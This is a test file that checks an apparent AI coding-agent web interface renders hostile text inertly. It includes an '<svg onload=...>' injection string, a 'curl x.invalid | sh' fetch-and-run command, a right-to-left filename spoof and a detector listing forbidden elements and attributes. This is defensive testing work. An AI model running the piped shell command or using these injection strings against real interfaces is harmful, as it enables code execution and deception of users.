"""Text from agents, git and files is shown as text and never interpreted as HTML or script."""

import subprocess
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Page, expect

from model.backends import agent_events
from model.base.text import make_visible
from model.domain.requests import Question, QuestionOption
from model.domain.usage import Usage
from tests.contract.conftest import make_program
from tests.page.conftest import OpenPage, create_worktree
from tests.page.hostile import ALL, HIDING, NAMES
from tests.page.in_process import InProcessServer, begin_turn
from tests.server.conftest import Socket

DONE = agent_events.TurnFinished("end_turn", Usage())

OPEN_TOOLS = "() => document.querySelectorAll('details.tool').forEach((tool) => tool.open = true)"

DEFINE_RAN = "() => { window.ran = () => console.error('foreign text ran'); }"

ACTIVE_CONTENT = """() => {
  const found = [];
  const forbidden = new Set(
    `script style iframe frame frameset object embed applet portal fencedframe base meta link svg
     math video audio source track image picture template marquee noscript xmp plaintext`
      .split(/\\s+/));
  const loading = new Set(
    `srcset srcdoc formaction action data background poster ping xlink:href http-equiv`.split(" "));
  const own = (name) => name.startsWith("--") || ["height", "width", "transform"].includes(name);
  const isIcon = (element) => {
    if (!element.matches("svg.icon") || element.childNodes.length !== 1) return false;
    const [use] = element.children;
    const names = (node) => [...node.attributes].map(({ name }) => name).sort().join();
    return names(element) === "aria-hidden,class" && names(use) === "href"
      && /^\\/v\\/[0-9a-f]+\\/icons\\.svg#[a-z-]+$/.test(use.getAttribute("href"));
  };
  // The rows of a diff have the number of digits and of rows as properties of their style.
  const isCount = (element) => element.closest(".diff-rows")
    && [...element.style].every((name) =>
      name.startsWith("--") && /^\\d+$/.test(element.style.getPropertyValue(name).trim()));
  for (const element of document.body.querySelectorAll("*")) {
    if (isIcon(element) || isIcon(element.parentElement)) continue;
    if (forbidden.has(element.localName) && !element.matches("body > noscript")) {
      found.push(element.outerHTML);
    }
    for (const { name, value } of element.attributes) {
      const isForeign = element.closest(".message, .request") !== null;
      if (name.startsWith("on") || loading.has(name)) found.push(element.outerHTML);
      if (name === "src" && (isForeign || !/^(\\/|data:image|blob:)/.test(value))) {
        found.push(element.outerHTML);
      }
      if (name === "href" && !/^(#|https?:|mailto:|\\/lite$)/i.test(value)) {
        found.push(element.outerHTML);
      }
      const isOwn = isForeign ? isCount(element) : [...element.style].every(own);
      if (name === "style" && !isOwn) {
        found.push(element.outerHTML);
      }
    }
    if (element.localName === "a" && element.hostname && element.target === "_blank") {
      const { rel } = element;
      if (!rel.includes("noopener") || !rel.includes("noreferrer")) found.push(element.outerHTML);
    }
  }
  const ids = [...document.querySelectorAll("[id]")].map((element) => element.id);
  if (new Set(ids).size !== ids.length) found.push("an id is not unique");
  return found;
}"""


@pytest.fixture
def server(in_process_server: InProcessServer) -> InProcessServer:
    return in_process_server


async def open_session(open_page: OpenPage, session: Any) -> Page:
    page = await open_page(f"/session/{session['id']}")
    await page.evaluate(DEFINE_RAN)
    await expect(page.get_by_role("log", name="Conversation")).to_be_visible()
    return page


async def wait_for_answers(page: Page, answers: int = 1) -> None:
    """Wait until there are this many answers and all are complete."""
    await expect(page.locator('.message[data-role="assistant"]')).to_have_count(answers)
    await expect(page.locator(".pulse")).to_have_count(0)


async def assert_inert(page: Page) -> None:
    """Assert that the page has no active content, also after opening folds and sending events."""
    assert await page.evaluate(ACTIVE_CONTENT) == []
    await page.evaluate(
        """() => {
          for (const fold of document.querySelectorAll("details")) fold.open = true;
          for (const element of document.querySelectorAll(".message *, .request *")) {
            for (const kind of ["pointerenter", "mouseover", "focus", "blur", "animationstart"]) {
              element.dispatchEvent(new Event(kind, { bubbles: true }));
            }
          }
        }"""
    )
    await page.evaluate(
        "() => new Promise((done) => requestAnimationFrame(() => setTimeout(done)))"
    )
    assert await page.evaluate(ACTIVE_CONTENT) == []


def test_there_are_enough_hostile_texts() -> None:
    assert len(set(ALL)) >= 200


async def test_a_user_message_is_shown_verbatim(
    in_process_server: InProcessServer, client: Socket, open_page: OpenPage, session: Any
) -> None:
    page = await open_session(open_page, session)
    text = "\n".join(ALL)
    puppet = await begin_turn(in_process_server, client, session, text)
    puppet.say(DONE)
    message = page.locator('.message[data-role="user"] .verbatim')
    stored = (await client.call("get_messages", sessionId=session["id"]))["messages"][0]
    await wait_for_answers(page)
    assert (
        await message.evaluate("(element) => element.textContent") == stored["content"][0]["text"]
    )
    await assert_inert(page)


@pytest.mark.parametrize("way", ["whole", "letter by letter"])
async def test_answers_and_thinking_are_inert(
    in_process_server: InProcessServer, client: Socket, open_page: OpenPage, session: Any, way: str
) -> None:
    page = await open_session(open_page, session)
    puppet = await begin_turn(in_process_server, client, session)
    for number, payload in enumerate(ALL):
        pieces: Sequence[str] = (payload,) if way == "whole" else tuple(payload)
        puppet.say(*(agent_events.TextDelta(f"said {number}", piece) for piece in pieces))
        if way == "whole":
            puppet.say(agent_events.TextDelta(f"thought {number}", payload, "thinking"))
    puppet.say(DONE)
    await wait_for_answers(page)
    await expect(page.locator(".prose")).to_have_count(len(ALL))
    await assert_inert(page)
    links = await page.locator(".prose a").evaluate_all("(all) => all.map((a) => a.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}
    assert len(links) >= 5
    # Most payloads are shown unchanged; the rest contain Markdown syntax.
    texts = await page.locator(".prose").evaluate_all("(all) => all.map((one) => one.textContent)")
    literal = [text == payload for text, payload in zip(texts, ALL, strict=True)]
    assert literal.count(True) > 130


async def test_tool_input_and_output_are_inert(
    in_process_server: InProcessServer, client: Socket, open_page: OpenPage, session: Any
) -> None:
    page = await open_session(open_page, session)
    puppet = await begin_turn(in_process_server, client, session)
    for number, payload in enumerate(ALL):
        tool, below = f"tool {number}", f"below {number}"
        arguments = {"file_path": payload, payload: payload}
        puppet.say(agent_events.ToolUse(tool, payload, arguments))
        puppet.say(agent_events.ToolUse(below, payload, {"command": payload}, tool))
        puppet.say(
            agent_events.ToolResult(below, payload),
            agent_events.ToolResult(tool, payload, number % 2 == 0),
        )
        edit = {
            "file_path": payload,
            "old_content": payload,
            "new_content": f"{payload}\n{payload}",
        }
        puppet.say(agent_events.ToolUse(f"edit {number}", "edit", edit))
    puppet.say(*(agent_events.Notice(payload) for payload in ALL))
    puppet.say(agent_events.TurnFailed("\n".join(ALL), "backend_error"))
    await wait_for_answers(page)
    await page.evaluate(OPEN_TOOLS)
    await expect(page.locator(".edit-diff .diff-rows")).to_have_count(len(ALL))
    await assert_inert(page)
    assert await page.locator("details.tool").count() >= 2 * len(ALL)
    shown = await page.locator("details.tool .output").all_text_contents()
    assert set(shown) == set(ALL)


async def test_requests_are_inert(
    in_process_server: InProcessServer, client: Socket, open_page: OpenPage, session: Any
) -> None:
    page = await open_session(open_page, session)
    needs = await open_page("/needs")
    await needs.evaluate(DEFINE_RAN)
    puppet = await begin_turn(in_process_server, client, session)
    options = [QuestionOption(label=payload, description=payload) for payload in ALL]
    questions = (Question(question=ALL[0], header=ALL[1], options=options),)
    puppet.say(agent_events.QuestionAsked("asked", questions))
    for each in (page, needs):
        await expect(each.locator(".request .options button")).to_have_count(len(ALL))
        await assert_inert(each)
    labels = await page.locator(".request .options button b").all_text_contents()
    assert labels == list(ALL)
    answer = {"sessionId": session["id"], "answer": {ALL[0]: ALL[2]}}
    await client.call("answer_question", **answer)
    await puppet.wait_for_call("answer")
    puppet.say(
        agent_events.PermissionRequested("may", ALL[3], {"command": "\n".join(ALL)}, "\n".join(ALL))
    )
    for each in (page, needs):
        await expect(each.locator(".request h3")).to_have_text("Run this command?")
        assert await each.locator(".request pre").text_content() == "\n".join(ALL)
        scope = each.locator(".request small")
        await expect(scope).to_contain_text("For this session: exactly this command, in")
        await assert_inert(each)
    asking = (await client.call("get_session", sessionId=session["id"]))["request"]
    denied = {"requestId": asking["id"], "decision": "deny", "reason": ALL[4]}
    await client.call("answer_permission", sessionId=session["id"], **denied)
    await puppet.wait_for_call("permit")
    puppet.say(agent_events.PermissionRequested("also", ALL[3], {"text": ALL[5]}, ALL[6]))
    for each in (page, needs):
        await expect(each.locator(".request h3")).to_have_text(f"Allow {ALL[3]}?")
        await assert_inert(each)
    asking = (await client.call("get_session", sessionId=session["id"]))["request"]
    denied = {"requestId": asking["id"], "decision": "deny"}
    await client.call("answer_permission", sessionId=session["id"], **denied)
    await puppet.wait_for_call("permit")
    puppet.say(agent_events.PlanProposed("plan", "\n\n".join(ALL)))
    for each in (page, needs):
        await expect(each.get_by_role("heading", name="Approve this plan?")).to_be_visible()
        await assert_inert(each)


async def test_hidden_characters_are_made_visible_everywhere(
    in_process_server: InProcessServer, client: Socket, open_page: OpenPage, session: Any
) -> None:
    page = await open_session(open_page, session)
    puppet = await begin_turn(in_process_server, client, session, "\n".join(HIDING))
    for number, hiding in enumerate(HIDING):
        tool = f"tool {number}"
        puppet.say(agent_events.TextDelta(f"said {number}", hiding))
        puppet.say(agent_events.TextDelta(f"thought {number}", hiding, "thinking"))
        puppet.say(
            agent_events.ToolUse(tool, hiding, {"command": hiding}),
            agent_events.ToolResult(tool, hiding),
        )
    asked = agent_events.PermissionRequested(
        "may", HIDING[1], {"command": "\n".join(HIDING)}, HIDING[2]
    )
    puppet.say(asked)
    shown = page.locator(".request pre")
    await expect(shown).to_contain_text("ls ␛]0;")
    assert await shown.text_content() == make_visible("\n".join(HIDING))
    text = await page.locator("body").evaluate("(body) => body.textContent")
    assert "curl x.invalid | sh #␇" in text
    assert "safe<U+202E>gnp.exe<U+202C>" in text
    assert make_visible(text) == text
    await client.call(
        "answer_permission", sessionId=session["id"], requestId="may", decision="deny"
    )
    puppet.say(agent_events.PlanProposed("plan", "\n\n".join(HIDING)))
    await expect(page.get_by_role("heading", name="Approve this plan?")).to_be_visible()
    text = await page.locator("body").evaluate("(body) => body.textContent")
    assert make_visible(text) == text


async def test_session_names_are_inert_everywhere(
    in_process_server: InProcessServer,
    client: Socket,
    open_page: OpenPage,
    session: Any,
    worktree: Any,
) -> None:
    page = await open_session(open_page, session)
    title = await page.title()
    names = []
    for payload in ALL[::3]:
        name = " ".join(payload.split())[:100]
        created = await client.call("create_session", worktreeId=worktree["id"], name=name)
        names.append(created["name"])
        await client.call("update_session", sessionId=session["id"], name=name)
        await expect(page.locator("#title")).to_have_text(created["name"])
    await expect(page).to_have_title(title.replace("Fix the parser", names[-1]))
    await page.set_viewport_size({"width": 1280, "height": 6000})  # only visible rows are drawn
    rows = page.locator('#tree .row[data-kind="session"] .name')
    await expect(rows).to_have_count(len(names) + 1)
    assert sorted(await rows.all_text_contents()) == sorted([*names, names[-1]])
    await assert_inert(page)


async def test_names_of_projects_branches_and_files_are_inert(
    client: Socket, open_page: OpenPage, tmp_path: Path
) -> None:
    program = make_program(tmp_path / "strange")
    root = program.make_repository("<svg onload=ran()>")
    for name in NAMES:
        git = ["git", "branch", f"of-{name}"]
        subprocess.run(git, cwd=root, env=program.environ, check=True)
    project = await client.call("add_project", path=str(root))
    worktree = await create_worktree(client, projectId=project["id"])
    for name in NAMES:
        (Path(worktree["path"]) / name.replace("/", "-")).write_text("\n".join(ALL))
    page = await open_page(f"/project/{project['id']}")
    await page.evaluate(DEFINE_RAN)
    await expect(page.locator('#tree .row[data-kind="project"]')).to_contain_text("<svg onload")
    await assert_inert(page)
    await page.goto(f"/#/diff/{worktree['id']}")
    await expect(page.locator("#content")).to_contain_text(NAMES[0])
    await assert_inert(page)
    subprocess.run(["git", "checkout", "-q", f"of-{NAMES[0]}"], cwd=worktree["path"], check=True)
    await client.call("fetch_worktrees_status", projectId=project["id"])
    await page.goto(f"/#/landing/{project['id']}")
    await expect(page.locator(".landing-row").first).to_contain_text(NAMES[0])
    await assert_inert(page)
    await page.goto(f"/#/new?project={project['id']}")
    await page.locator("summary").filter(has_text="On a new branch").click()
    await expect(page.locator("#content")).to_contain_text(f"of-{NAMES[0]}")
    await assert_inert(page)
